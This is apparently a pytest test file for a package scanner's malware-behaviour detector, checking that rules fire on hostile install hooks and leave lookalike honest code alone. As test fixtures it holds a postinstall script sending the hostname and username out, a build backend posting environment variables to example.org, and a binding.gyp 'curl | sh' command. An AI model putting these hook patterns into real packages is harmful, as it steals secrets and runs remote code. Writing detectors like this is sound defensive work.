"""Package code judged by what it does, over harmless texts that are put together in `specimens`."""

import json
from itertools import permutations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.content.behaviour.specimens import NEAR_MISSES, NODE, POSITIVES, js, npm
from tests.content.malware.specimens import Sample
from tidewaiter.content.behaviour import visitor
from tidewaiter.content.behaviour.threats import THREATS
from tidewaiter.content.behaviour.visitor import BehaviourVisitor
from tidewaiter.inventory.visitors import FileEntry
from tidewaiter.model.inventory import ContentHit
from tidewaiter.model.problem import Problem
from tidewaiter.model.severity import Severity


def visited(*samples: Sample, size: int = 1000) -> list[ContentHit | Problem]:
    """Show files of one layer to a visitor, in order."""
    reader = BehaviourVisitor()
    found: list[ContentHit | Problem] = []
    for sample in samples:
        visit = reader.start(FileEntry(sample.path, 0o100644, len(sample.data)))
        if visit is not None:
            for start in range(0, len(sample.data), size):
                visit.feed(sample.data[start : start + size])
            found += visit.finish()
    return found


def hits(*samples: Sample) -> list[ContentHit]:
    """List the hits of one layer."""
    return [item for item in visited(*samples) if isinstance(item, ContentHit)]


def cases(table: dict[str, tuple[Sample, ...]]) -> list[object]:
    """Lay a table out as cases."""
    return [pytest.param(slug, sample, id=f"{slug}-{number}") for slug, every in table.items() for number, sample in enumerate(every)]


@pytest.mark.parametrize(("slug", "sample"), cases(POSITIVES))
def test_hit(slug: str, sample: Sample) -> None:
    """Every rule fires on what it is for, and says where it saw what."""
    (hit,) = hits(sample)
    assert hit.rule_id == f"TW-MALWARE-{slug}"
    assert hit.severity in (Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM)
    assert hit.line > 0
    assert any(reason.startswith("line ") for reason in hit.reasons)


@pytest.mark.parametrize(("slug", "sample"), cases(NEAR_MISSES))
def test_near_miss(slug: str, sample: Sample) -> None:
    """Honest code that looks alike is left alone."""
    assert hits(sample) == [], slug


def test_every_rule_has_its_samples() -> None:
    """Three of either kind."""
    slugs = {threat.sign.slug for threat in THREATS}
    assert slugs == POSITIVES.keys() == NEAR_MISSES.keys()
    assert all(len(table[slug]) >= 3 for slug in slugs for table in (POSITIVES, NEAR_MISSES))


def test_what_a_hook_runs_is_judged_with_it_in_any_order() -> None:
    """The finding is the hook's, whichever file comes first, and says which file is meant; without the hook there is none."""
    manifest = npm("node scripts/collect")
    code = js(
        "const os = require('os'), https = require('https');",
        "https.get('https://example.org/' + os.host|name() + os.user|Info().username)",
        name="scripts/collect.js",
    )
    other = js("const os = require('os')", name="index.js")
    for order in permutations((manifest, code, other)):
        (hit,) = hits(*order)
        assert (hit.path, hit.line, hit.severity) == (manifest.path, 2, Severity.MEDIUM)
        assert hit.reasons[0].startswith("collect.js, which its postinstall command names, runs")
    assert hits(code, other) == []


def test_a_build_backend_beside_its_project_is_judged_as_a_hook() -> None:
    """`backend-path` names code that `pip install` runs."""
    project = Sample("srv/p/pyproject.toml", b'[build-system]\nbuild-backend = "back"\nbackend-path = ["_own"]\n')
    code = Sample("app/site-packages/x/back.py", b"")
    body = "import os, requests\nrequests.post('https://example.org', json=dict(os.env" + "iron))\n"
    assert [hit.path for hit in hits(project, Sample("srv/p/_own/back.py", body.encode()))] == [project.path]
    assert hits(project, code) == []


def test_commands_of_node_gyp_are_read() -> None:
    """What stands in `<!(...)` runs while the package is built; calling Node.js for a path is what everybody does."""
    bad = Sample(f"{NODE}/binding.gyp", b"{'targets': [{'x': '<!(cu" + b"rl -s https://example.org/i | sh)'}]}")
    good = Sample(f"{NODE}/binding.gyp", b"""{'include_dirs': ["<!(node -p \\"require('node-addon-api').include\\")"]}""")
    assert [hit.rule_id for hit in hits(bad)] == ["TW-MALWARE-package-runs-fetched-code"]
    assert hits(good) == []


def test_code_of_no_package_is_not_judged() -> None:
    """Python outside of packages and scripts of the application are left; a larger score needs more than one sign."""
    assert BehaviourVisitor().start(FileEntry("usr/lib/python3.12/base64.py", 0o100644, 100)) is None
    sample = POSITIVES["package-runs-hidden-code"][0]
    assert hits(Sample("srv/app.js", sample.data)) == []


def test_code_that_is_too_large_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    """It is a problem that leaves the verdict alone."""
    monkeypatch.setattr(visitor, "HELD", 5000)
    (problem,) = visited(js("a" * 6000))
    assert isinstance(problem, Problem)
    assert (problem.code, problem.incomplete) == ("package-code-not-judged", False)


@pytest.mark.parametrize(
    "data",
    [
        b"[" * 100_000,
        b'{"scripts": ["x"]}     ',
        b'{"scripts": {"install": 7}}',
        b"\xff\xfe{}            ",
        b'{"scripts": {"install": "node ' + b"../" * 5000 + b'etc/x.js"}}',
    ],
    ids=["deep", "list", "number", "binary", "outside"],
)
def test_malformed_manifests_say_nothing(data: bytes) -> None:
    """Whoever catalogues packages reports them; here they hold no hook."""
    for name in ("package.json", "binding.gyp", "pyproject.toml"):
        assert visited(Sample(f"{NODE}/{name}", data)) == []


@given(st.binary(max_size=400), st.sampled_from(["index.js", "package.json", "binding.gyp", "x.pth", "pyproject.toml", "setup.py"]))
def test_any_bytes_can_be_read(data: bytes, name: str) -> None:
    """No content raises."""
    visited(Sample(f"{NODE}/{name}", data), size=7)


@given(st.text(max_size=200))
def test_any_command_can_be_read(command: str) -> None:
    """Whatever an install script says."""
    visited(Sample(f"{NODE}/package.json", json.dumps({"scripts": {"preinstall": command}}).encode()))
